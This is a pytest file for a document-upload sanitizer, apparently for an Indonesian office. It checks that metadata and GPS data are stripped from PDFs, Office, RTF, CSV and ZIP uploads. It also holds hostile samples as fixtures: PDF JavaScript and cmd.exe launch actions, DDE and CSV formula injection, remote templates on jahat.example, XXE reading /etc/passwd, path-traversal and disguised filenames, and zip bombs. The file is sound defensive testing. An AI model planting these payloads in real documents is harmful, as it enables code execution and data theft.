"""Documents as offices and people who mean harm send them, each with what becomes of it."""

import zipfile
from io import BytesIO
from tempfile import TemporaryFile
from typing import Any

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from pikepdf import Dictionary, Name
from PIL import Image as PillowImage

from media_pipeline.document_upload import CleanedFile, cleaned
from media_pipeline.text_extraction.findings import Finding
from media_pipeline.text_extraction.process import extract
from tests.media import hostile_files as hostile

SECRET = b"Budi Rahasia"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "\x01Ole10Native".encode("utf-16-le")
CHUNK = b'<R><Relationship Id="a" Type="x/aFChunk" Target="a.html"/></R>'
DDE = b'<d xmlns:w="w"><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText></d>'
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def take(content: bytes, name: str) -> CleanedFile:
    return cleaned(ContentFile(content, name=name), name.rpartition(".")[2])


def kept(content: bytes, name: str) -> tuple[bytes, str]:
    file = take(content, name)
    return file.read(), file.notes


def refused(content: bytes, name: str) -> str:
    with pytest.raises(ValidationError) as caught:
        take(content, name)
    return str(caught.value.code)


def gps_jpeg() -> bytes:
    """A photo that tells where and by whom it was taken."""
    out = BytesIO()
    exif = PillowImage.Exif()
    exif[0x013B] = SECRET.decode()
    exif.get_ifd(0x8825)[2] = (6.0, 45.0, 18.0)
    PillowImage.effect_noise((64, 48), 60).convert("RGB").save(out, "JPEG", exif=exif, comment=SECRET)
    assert SECRET in out.getvalue()
    return out.getvalue()


def made_pdf(change: Any = None, **saving: Any) -> bytes:
    with pikepdf.open(BytesIO(hostile.pdf("Naskah dinas"))) as pdf:
        pdf.docinfo["/Author"] = SECRET.decode()
        with pdf.open_metadata() as metadata:
            metadata["dc:creator"] = [SECRET.decode()]
        if change is not None:
            change(pdf)
        out = BytesIO()
        pdf.save(out, **saving)
    return out.getvalue()


def zipped(parts: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def with_parts(base: bytes, parts: dict[str, bytes]) -> bytes:
    with zipfile.ZipFile(BytesIO(base)) as archive:
        return zipped({name: archive.read(name) for name in archive.namelist()} | parts)


def relations(kind: str, target: str) -> bytes:
    return (
        f'<Relationships><Relationship Id="r1" Type="{_RELS}/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    ).encode()


def read_of(content: bytes) -> str:
    """What the search reads of a cleaned document."""
    with TemporaryFile() as file:
        file.write(content)
        file.flush()
        result = extract(file)
    assert result.finding == Finding.READ
    return result.text


ARMED = zipped({"word/vbaProject.bin": b"x", "word/document.xml": b"<d/>"})


class TestPdf:
    def test_particulars_of_its_makers_are_gone_and_its_text_is_there(self) -> None:
        content, notes = kept(made_pdf(), "surat.pdf")
        assert SECRET not in content
        with pikepdf.open(BytesIO(content)) as pdf:
            assert "/Info" not in pdf.trailer
            assert "/Metadata" not in pdf.Root
        assert notes == ""
        assert "Naskah dinas" in read_of(content)

    def test_scripts_and_starts_of_programs_are_taken_out_and_told(self) -> None:
        def arm(pdf: Any) -> None:
            script = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
            pdf.Root.OpenAction = pdf.make_indirect(script)
            pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=["a", script]))
            pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.Launch, F="cmd.exe"))
            link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9])
            link.A = Dictionary(S=Name.URI, URI="javascript:alert(1)", Next=Dictionary(S=Name.Launch, F="cmd.exe"))
            pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([link]))

        content, notes = kept(made_pdf(arm), "surat.pdf")
        plain = _flat(content)
        for trace in (b"JavaScript", b"javascript", b"app.alert", b"Launch", b"cmd.exe", b"/AA"):
            assert trace not in plain, trace
        assert "Skrip" in notes

    def test_attached_files_are_taken_out_and_told(self) -> None:
        def attach(pdf: Any) -> None:
            pdf.attachments["muatan.exe"] = b"MZ muatan"

        content, notes = kept(made_pdf(attach), "surat.pdf")
        assert b"muatan" not in _flat(content)
        assert "Lampiran" in notes

    def test_a_scanned_photo_loses_its_place(self) -> None:
        photo = gps_jpeg()

        def scan(pdf: Any) -> None:
            picture = pikepdf.Stream(pdf, photo)
            picture.Type, picture.Subtype, picture.Filter = Name.XObject, Name.Image, Name.DCTDecode
            picture.Width, picture.Height, picture.ColorSpace, picture.BitsPerComponent = 64, 48, Name.DeviceRGB, 8
            pdf.pages[0].Resources.XObject = Dictionary(Im1=pdf.make_indirect(picture))

        content, _notes = kept(made_pdf(scan), "pindai.pdf")
        assert SECRET not in content
        assert b"Exif" not in content
        with pikepdf.open(BytesIO(content)) as pdf:
            image = pikepdf.PdfImage(pdf.pages[0].Resources.XObject["/Im1"]).as_pil_image()
        with PillowImage.open(BytesIO(photo)) as before:
            assert image.tobytes() == before.tobytes()

    def test_a_signed_one_stays_byte_by_byte(self) -> None:
        def sign(pdf: Any) -> None:
            seal = Dictionary(Type=Name.Sig, ByteRange=[0, 100, 200, 100], Contents=b"\x30" * 40)
            field = Dictionary(FT=Name.Sig, T="Tanda tangan", V=pdf.make_indirect(seal))
            pdf.Root.AcroForm = Dictionary(Fields=[pdf.make_indirect(field)], SigFlags=3)

        before = made_pdf(sign)
        content, notes = kept(before, "sk.pdf")
        assert content == before
        assert "tanda tangannya tetap sah" in notes

        def arm(pdf: Any) -> None:
            sign(pdf)
            pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")

        assert refused(made_pdf(arm), "sk.pdf") == "signed_script"
        assert refused(before + b"<html><script>alert(1)</script>", "sk.pdf") == "polyglot"

    def test_one_that_may_be_read_but_not_printed_stays_so(self) -> None:
        content, notes = kept(hostile.encrypted_pdf(""), "a.pdf")
        assert b"/Encrypt" in content
        assert "dibatasi" in notes

    @pytest.mark.parametrize(
        ("content", "reason"),
        [
            (hostile.encrypted_pdf("kunci"), "locked"),
            (hostile.truncated_pdf(), "broken"),
            (hostile.pdf("Utuh")[:-12], "broken"),
            (hostile.looping_pdf(), "broken"),
            (b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n", "broken"),
            (b"MZ\x90\x00" + b"\x00" * 60, "not_genuine"),
            (b"", "empty"),
            (b"<html><script>alert(1)</script>\n" + hostile.pdf("a"), "polyglot"),
            (hostile.pdf("a").replace(b"%PDF-1.4\n", b"%PDF-1.4\n%<script>alert(1)</script>\n"), "polyglot"),
            (hostile.pdf("a") + zipped({"a.html": b"<b>"}), "polyglot"),
        ],
    )
    def test_others_are_refused(self, content: bytes, reason: str) -> None:
        assert refused(content, "a.pdf") == reason

    def test_harmless_bytes_around_it_are_dropped_and_told(self) -> None:
        content, notes = kept(b"Dari mesin pindai\n" + hostile.pdf("Isi") + b"sisa", "a.pdf")
        assert content.startswith(b"%PDF-")
        assert content.rstrip().endswith(b"%%EOF")
        assert "dibuang" in notes


def _flat(content: bytes) -> bytes:
    """Everything of a PDF, its packed parts spelled out."""
    out = BytesIO()
    with pikepdf.open(BytesIO(content)) as pdf:
        pdf.save(out, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return content + out.getvalue()


class TestOffice:
    def test_people_and_places_are_gone_and_the_text_is_there(self) -> None:
        who = SECRET.decode()
        core = f"<cp:coreProperties xmlns:cp='p' xmlns:dc='d'><dc:creator>{who}</dc:creator></cp:coreProperties>"
        remark = (
            f'<w:comments xmlns:w="w"><w:comment w:id="0" w:author="{SECRET.decode()}" w:initials="BR"/></w:comments>'
        )
        before = with_parts(
            hostile.docx("Pengumuman dinas"),
            {
                "docProps/core.xml": core.encode(),
                "docProps/app.xml": f"<Properties xmlns='p'><Company>{SECRET.decode()}</Company></Properties>".encode(),
                "docProps/thumbnail.jpeg": gps_jpeg(),
                "word/comments.xml": remark.encode(),
                "word/media/image1.jpeg": gps_jpeg(),
                "word/_rels/settings.xml.rels": relations("attachedTemplate", f"file:///C:/{SECRET.decode()}/a.dotx"),
            },
        )
        content, notes = kept(before, "surat.docx")
        with zipfile.ZipFile(BytesIO(content)) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        for name, part in parts.items():
            assert SECRET not in part, name
        assert "docProps/thumbnail.jpeg" not in parts
        with PillowImage.open(BytesIO(parts["word/media/image1.jpeg"])) as picture:
            assert not picture.getexif()
        assert "Nama penulis" in notes
        assert "Pengumuman dinas" in read_of(content)

    @pytest.mark.parametrize(
        ("name", "base"),
        [("a.docx", hostile.docx("a")), ("a.xlsx", hostile.xlsx([["a"]])), ("a.pptx", hostile.pptx("a", "b"))],
    )
    def test_plain_ones_stay_readable(self, name: str, base: bytes) -> None:
        content, notes = kept(base, name)
        assert notes == ""
        assert "a" in read_of(content)

    @pytest.mark.parametrize(
        ("parts", "reason"),
        [
            ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, "macros"),
            ({"[Content_Types].xml": b"<T a='application/vnd.ms-word.document.macroEnabled.main+xml'/>"}, "macros"),
            ({"word/activeX/activeX1.xml": b"<a/>"}, "macros"),
            ({"word/embeddings/oleObject1.bin": OLE}, "objects"),
            ({"word/embeddings/a.exe": b"MZ"}, "forbidden_part"),
            ({"word/embeddings/a.bin": b"MZ\x90"}, "forbidden_part"),
            ({"word/embeddings/a.docx": ARMED}, "macros"),
            ({"word/_rels/settings.xml.rels": relations("attachedTemplate", "https://jahat.example/a")}, "outside"),
            ({"word/_rels/settings.xml.rels": relations("attachedTemplate", r"\\\\jahat\a.dotm")}, "outside"),
            ({"word/_rels/document.xml.rels": relations("oleObject", "mhtml:https://jahat.example/a!x")}, "outside"),
            ({"word/_rels/document.xml.rels": CHUNK}, "objects"),
            ({"word/document.xml": DDE}, "commands"),
            ({"../../etc/passwd": b"x"}, "bad_name"),
            ({"C:\\x": b"x"}, "bad_name"),
            ({"WORD/document.xml": b"<x/>"}, "bad_name"),
            ({"word/a.zip": zipped({"a.txt": b"a"})}, "nested"),
            ({"word/styles.xml": b"<a><b></a>"}, "broken"),
        ],
    )  # fmt: skip
    def test_what_runs_fetches_or_hides_is_refused(self, parts: dict[str, bytes], reason: str) -> None:
        assert refused(with_parts(hostile.docx("a"), parts), "a.docx") == reason

    @pytest.mark.parametrize(
        ("content", "name", "reason"),
        [
            (hostile.locked_docx(), "a.docx", "locked"),
            (hostile.laughing_docx(), "a.docx", "entities"),
            (hostile.fetching_docx("file:///etc/passwd"), "a.docx", "entities"),
            (hostile.bomb_xlsx(), "a.xlsx", "bomb"),
            (hostile.xlsx([["a"]]), "a.docx", "not_genuine"),
            (b"PK\x03\x04rusak", "a.xlsx", "broken"),
            (hostile.docx("a")[:-30], "a.docx", "broken"),
            (b"<html>" + hostile.docx("a"), "a.docx", "not_genuine"),
        ],
    )
    def test_broken_and_swollen_ones_are_refused(self, content: bytes, name: str, reason: str) -> None:
        assert refused(content, name) == reason

    def test_a_link_into_the_office_s_network_is_cut_and_one_into_the_web_is_not(self) -> None:
        links = (
            b'<R><Relationship Id="a" Type="x/hyperlink" TargetMode="External" Target="file:///C:/Users/budi/a.xlsx"/>'
            b'<Relationship Id="b" Type="x/hyperlink" TargetMode="External" Target="https://patikab.go.id/"/></R>'
        )
        content, notes = kept(with_parts(hostile.docx("a"), {"word/_rels/document.xml.rels": links}), "a.docx")
        with zipfile.ZipFile(BytesIO(content)) as archive:
            left = archive.read("word/_rels/document.xml.rels")
        assert b"budi" not in left
        assert b'Target="https://patikab.go.id/"' in left
        assert "diputus" in notes

    def test_what_hides_behind_the_archive_is_gone(self) -> None:
        out = BytesIO(hostile.docx("a"))
        with zipfile.ZipFile(out, "a") as archive:
            archive.comment = b"<script>alert(1)</script>"
        content, _notes = kept(out.getvalue(), "a.docx")
        assert b"<script" not in content

    def test_an_open_document_loses_its_people_and_refuses_macros(self) -> None:
        meta = f"<m xmlns:dc='d'><dc:creator>{SECRET.decode()}</dc:creator></m>".encode()
        content, _notes = kept(
            with_parts(hostile.odt("Naskah"), {"meta.xml": meta, "Thumbnails/thumbnail.png": b"x"}), "a.odt"
        )
        with zipfile.ZipFile(BytesIO(content)) as archive:
            assert not any(SECRET in archive.read(name) for name in archive.namelist())
        assert content[30:38] == b"mimetype"
        assert "Naskah" in read_of(content)
        assert refused(with_parts(hostile.odt("a"), {"Basic/Standard/Modul.xml": b"<a/>"}), "a.odt") == "macros"
        fetched = b"<d xmlns:draw='d' xmlns:x='x'><draw:image x:href='http://jahat.example/a.png'/></d>"
        assert refused(with_parts(hostile.odt("a"), {"styles.xml": fetched}), "a.odt") == "outside"


class TestArchive:
    def test_each_member_is_cleaned_and_clutter_goes(self) -> None:
        before = zipped(
            {"data/surat.pdf": made_pdf(), "foto.jpg": gps_jpeg(), "__MACOSX/._surat.pdf": b"x", "a.csv": b"a;b\n"}
        )
        content, notes = kept(before, "berkas.zip")
        with zipfile.ZipFile(BytesIO(content)) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        assert set(parts) == {"data/surat.pdf", "foto.jpg", "a.csv"}
        assert not any(SECRET in part for part in parts.values())
        assert "dibuang" in notes

    @pytest.mark.parametrize(
        ("parts", "reason"),
        [
            ({"a.exe": b"MZ"}, "forbidden_part"),
            ({"a.html": b"<b>"}, "forbidden_part"),
            ({"a.shp": b"MZ"}, "forbidden_part"),
            ({"laporan\u202efdp.exe": b"MZ"}, "bad_name"),
            ({"../a.txt": b"a"}, "bad_name"),
            ({"/a.txt": b"a"}, "bad_name"),
            ({"a.zip": zipped({"a.txt": b"a"})}, "nested"),
            ({"a.docx": hostile.bomb_xlsx()}, "bomb"),
            ({"a.pdf": hostile.truncated_pdf()}, "broken"),
            ({"a.txt": b"a" * 5_000_000}, "bomb"),
            ({}, "empty"),
        ],
    )
    def test_others_are_refused(self, parts: dict[str, bytes], reason: str) -> None:
        out = BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("baik.txt", "a") if parts else None
            for name, content in parts.items():
                archive.writestr(name, content)
        content = out.getvalue() if parts else zipped({".DS_Store": b"x"})
        assert refused(content, "a.zip") == reason


class TestText:
    def test_words_of_older_programs_become_utf8(self) -> None:
        content, notes = kept("Nama;Café\n".encode("cp1252"), "a.csv")
        assert content.decode("utf-8-sig") == "Nama;Café\n"
        assert "UTF-8" in notes
        assert kept("Nama;Café – “x”\n".encode(), "a.txt") == ("Nama;Café – “x”\n".encode(), "")

    @pytest.mark.parametrize(
        ("content", "reason"),
        [
            (b"\x00\x01", "not_genuine"),
            (b"MZ lain", "not_genuine"),
            (b"PK\x03\x04", "not_genuine"),
            (b"  <!DOCTYPE html><b>", "markup"),
            (b"<svg onload=alert(1)>", "markup"),
            (b"a;b\n<script>alert(1)</script>", "markup"),
            (b"nama\n=cmd|'/C calc'!A0\n", "commands"),
            (b"", "empty"),
        ],
    )
    def test_others_are_refused(self, content: bytes, reason: str) -> None:
        assert refused(content, "a.csv") == reason

    def test_formulas_and_numbers_below_zero_stay(self) -> None:
        content = b"jumlah;=SUM(A1:A2);-12;+62 811;a|b\n"
        assert kept(content, "a.csv") == (content, "")


class TestRichText:
    def test_its_people_are_gone(self) -> None:
        content, notes = kept(
            rb"{\rtf1\ansi{\info{\author Budi Rahasia}}Halo {\*\atnauthor Budi Rahasia}{\b tebal}}sisa", "a.rtf"
        )
        assert content == rb"{\rtf1\ansi Halo {\b tebal}}".replace(rb"\ansi ", rb"\ansi")
        assert "Nama penulis" in notes

    @pytest.mark.parametrize(
        ("content", "reason"),
        [
            (rb"{\rtf1{\object\objemb{\*\objdata 0105}}}", "objects"),
            (rb"{\rtf1{\*\template http://jahat.example/a.dotm}}", "outside"),
            (rb"{\rtf1{\field{\*\fldinst {D}{DE}AUTO c:\\cmd}{\fldrslt x}}}", "commands"),
            (rb"{\rtf1 terpotong", "broken"),
            (b"MZ", "not_genuine"),
        ],
    )
    def test_others_are_refused(self, content: bytes, reason: str) -> None:
        assert refused(content, "a.rtf") == reason


@pytest.mark.parametrize(
    ("name", "stored"),
    [
        ("../../etc/Laporan Tahunan 2017.PDF", "Laporan-Tahunan-2017.pdf"),
        ("laporan\u202efdp.exe.pdf", "laporan-fdp-exe.pdf"),
        ("résumé – naskah.pdf", "resume-naskah.pdf"),
        ("con.pdf", "dokumen.pdf"),
        ("数据.pdf", "dokumen.pdf"),
        (".pdf", "dokumen.pdf"),
        ("a" * 300 + ".pdf", "a" * 80 + ".pdf"),
        ("C:\\Users\\budi\\sk.pdf", "sk.pdf"),
    ],
)
def test_names_are_short_plain_and_true(name: str, stored: str) -> None:
    upload = ContentFile(hostile.pdf("a"))
    # Django's own cutting stands before this; here is what would be left without it.
    upload.name = name
    assert cleaned(upload, "pdf").name == stored
